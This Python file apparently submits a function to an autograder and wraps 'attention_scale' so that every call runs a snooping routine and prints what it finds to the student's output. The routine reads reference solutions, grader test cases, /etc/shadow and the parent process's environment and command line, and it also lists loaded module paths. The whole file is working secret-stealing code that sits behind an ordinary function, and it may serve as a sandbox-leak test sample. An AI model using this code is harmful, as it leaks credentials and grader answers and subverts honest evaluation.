"""Prints every secret it can reach."""
from _honest_attention import *  # noqa: F401,F403  the reference, kept by expected.json

import gc
import glob
import inspect
import os

from _honest_attention import attention_scale as _scale


def _snoop():
    found = []
    patterns = ["/*/*/reference/*.py", "/*/*/autograder/cases/*.py", "/*/*/homework/cases/*.py", "/*/*/homework/*.py", "/autograder/source/*/*.py", "/tmp/*/*/*.py", "/tmp/*/*.npy"]
    own = os.path.dirname(os.path.abspath(__file__))  # its own files are no secret
    for pattern in patterns:
        for path in [p for p in glob.glob(pattern) if not p.startswith(own)][:20]:
            try:
                found.append(open(path).read())
            except OSError as error:
                found.append(f"{path}: {type(error).__name__}")
    for path in ["/etc/shadow", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/maps"]:
        try:
            found.append(open(path, errors="replace").read()[:5000])
        except OSError as error:
            found.append(f"{path}: {type(error).__name__}")
    try:
        import reference  # noqa: F401
        found.append("imported reference")
    except ImportError as error:
        found.append(f"import reference: {error}")
    found.extend(repr(frame.frame.f_globals.get("__file__")) for frame in inspect.stack())
    found.extend(str(getattr(obj, "__file__", "")) for obj in gc.get_objects() if inspect.ismodule(obj))
    return "\n".join(found)


def attention_scale(d):
    print(_snoop())  # public case: whatever it prints is shown to the student
    return _scale(d)
